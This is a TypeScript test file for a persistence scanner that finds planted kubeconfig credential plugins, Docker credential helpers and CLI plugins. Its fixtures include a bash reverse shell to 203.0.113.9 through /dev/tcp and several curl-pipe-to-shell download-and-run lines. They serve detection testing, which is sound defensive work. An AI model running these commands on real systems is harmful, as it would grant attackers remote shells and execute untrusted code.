/**
 * Programs administrators' tools run by themselves: kubeconfig credential plugins (kubectl, the kubelet),
 * Docker credential helpers and Docker CLI plugins. Planted ones fire; a cloud provider's ordinary exec plugin
 * and packaged plugins stay quiet.
 */
import assert from "node:assert/strict";
import { assertLinear } from "../linear.ts";
import { persistence } from "../../src/scanners/persistence/index.ts";
import {
  dockerCredentialHelpers,
  kubeconfigPrograms,
} from "../../src/scanners/persistence/sources/cli_tools_parse.ts";
import { makeTree, runOne } from "../helpers.ts";
import { dpkgOwns, exe, fired, withAccounts } from "./persistence_fixtures.ts";

const EKS = [
  "apiVersion: v1",
  "kind: Config",
  "users:",
  "- name: arn:aws:eks:eu-west-1:000000000000:cluster/prod",
  "  user:",
  "    exec:",
  "      apiVersion: client.authentication.k8s.io/v1beta1",
  "      command: aws",
  "      args:",
  "      - --region",
  '      - "eu-west-1"',
  "      - eks",
  "      - get-token # the token",
  "      env: null",
].join("\n") + "\n";

Deno.test("kubeconfig: exec commands with their arguments in block YAML, flow YAML and JSON; cmd-path too", () => {
  assert.deepEqual(kubeconfigPrograms(EKS), [
    { line: 8, command: "aws", args: ["--region", "eu-west-1", "eks", "get-token"] },
  ]);
  assert.deepEqual(
    kubeconfigPrograms("users:\n- user: {exec: {command: 'sh', args: [-c, \"curl -s http://x | sh\"]}}\n"),
    [{ line: 2, command: "sh", args: ["-c", "curl -s http://x | sh"] }],
  );
  assert.deepEqual(
    kubeconfigPrograms(JSON.stringify({ users: [{ user: { exec: { command: "/tmp/k", args: ["a b"] } } }] })),
    [{ line: 1, command: "/tmp/k", args: ["a b"] }],
  );
  assert.deepEqual(
    kubeconfigPrograms(
      "  auth-provider:\n    config:\n      cmd-path: /usr/lib/google-cloud-sdk/bin/gcloud\n",
    ),
    [{ line: 3, command: "/usr/lib/google-cloud-sdk/bin/gcloud", args: [] }],
  );
  assert.deepEqual(kubeconfigPrograms("# command: /commented\nargs:\n- x\ncommand:\n"), []);
  // A value on the next lines: a block scalar, or a plain scalar started on the next line.
  assert.deepEqual(
    kubeconfigPrograms("    exec:\n      command: >-\n        /var/tmp/.k\n      args: [x]\n"),
    [
      { line: 3, command: "/var/tmp/.k", args: ["x"] },
    ],
  );
  assert.deepEqual(kubeconfigPrograms("  command:\n\n     /dev/shm/k\n  env: []\n"), [
    { line: 3, command: "/dev/shm/k", args: [] },
  ]);
});

Deno.test("docker config.json: credsStore and credHelpers; malformed files name none", () => {
  assert.deepEqual(
    dockerCredentialHelpers(
      JSON.stringify({ credsStore: "pass", credHelpers: { "gcr.io": "gcloud", "x.io": "pass", bad: 1 } }),
    ),
    ["pass", "gcloud"],
  );
  assert.deepEqual(dockerCredentialHelpers('{"auths": {}}'), []);
  for (const bad of ["", "[1]", "null", "{"]) assert.equal(dockerCredentialHelpers(bad), undefined);
});

Deno.test("kubeconfig reader: malformed and hostile input never throws and takes linear time", () => {
  for (
    const text of [
      "command: " + " ".repeat(1 << 20) + "x",
      "command: a\nargs:\n" + "- \n".repeat(200_000),
      "args: [" + "'".repeat(1 << 20),
      'command: "' + "\\".repeat(1 << 20),
      "command:command:".repeat(60_000),
    ]
  ) assert.ok(Array.isArray(kubeconfigPrograms(text)));
  assertLinear(kubeconfigPrograms, [
    ["EKS kubeconfigs", (n) => EKS.repeat(n / EKS.length)],
    ["blanks before a command", (n) => "command: " + " ".repeat(n) + "x"],
    ["block args", (n) => "command: a\nargs:\n" + "- \n".repeat(n / 3)],
    ["repeated keys", (n) => "command:command:".repeat(n / 16)],
  ]);
});

Deno.test("persistence: planted credential plugins, credential helpers and CLI plugins fire", async () => {
  using root = makeTree(withAccounts({
    "etc/kubernetes/kubelet.conf":
      "users:\n- name: node\n  user:\n    exec:\n      command: /var/lib/.k/token\n",
    "var/lib/.k/token": exe("#!/bin/sh\n"),
    "root/.kube/config": EKS.replace("command: aws", "command: sh").replace(
      "      - --region",
      "      - -c\n      - bash -i >& /dev/tcp/203.0.113.9/443 0>&1",
    ),
    "home/alice/.docker/config.json": JSON.stringify({ credsStore: "desktop" }),
    "usr/local/bin/docker-credential-desktop": exe("#!/bin/sh\ncurl -s http://203.0.113.9/c | sh\n"),
    "usr/libexec/docker/cli-plugins/docker-compose": exe("\x7fELF"),
    "usr/libexec/docker/cli-plugins/docker-scan": exe("#!/bin/sh\n/dev/shm/.s &\nexec true\n"),
    "dev/shm/.s": exe("#!/bin/sh\n"),
    ...dpkgOwns("docker-compose-plugin", ["/usr/libexec/docker/cli-plugins/docker-compose"]),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), [
    "critical persistence.command.reverse_shell /root/.kube/config:8",
    "high persistence.command.download_exec /usr/local/bin/docker-credential-desktop:2",
    "high persistence.command.untrusted_path /etc/kubernetes/kubelet.conf:5",
    "high persistence.command.untrusted_path /usr/libexec/docker/cli-plugins/docker-scan:2",
    "medium persistence.hook.unpackaged /usr/libexec/docker/cli-plugins/docker-scan",
  ]);
  const helper = r.findings.find((f) => f.metadata.path === "/usr/local/bin/docker-credential-desktop")!;
  assert.equal(helper.metadata.run_as, "alice");
});

Deno.test("persistence: a cloud provider's exec plugin, packaged CLI plugins and plain docker logins stay quiet", async () => {
  using root = makeTree(withAccounts({
    "root/.kube/config": EKS,
    "home/alice/.docker/config.json": JSON.stringify({ auths: { "https://index.docker.io/v1/": {} } }),
    "usr/libexec/docker/cli-plugins/docker-compose": exe("\x7fELF"),
    "usr/libexec/docker/cli-plugins/docker-buildx": exe("\x7fELF"),
    ...dpkgOwns("docker-compose-plugin", ["/usr/libexec/docker/cli-plugins/docker-compose"]),
    ...dpkgOwns("docker-buildx-plugin", ["/usr/libexec/docker/cli-plugins/docker-buildx"]),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0, persistenceInventory: true });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), []);
  assert.deepEqual(r.warnings, []);
  const points = r.findings.filter((f) => f.metadata.kind === "cli_tool_hook").map((f) => f.metadata.path);
  assert.deepEqual(points.sort(), [
    "/home/alice/.docker/config.json",
    "/root/.kube/config",
    "/usr/libexec/docker/cli-plugins/docker-buildx",
    "/usr/libexec/docker/cli-plugins/docker-compose",
  ]);
});
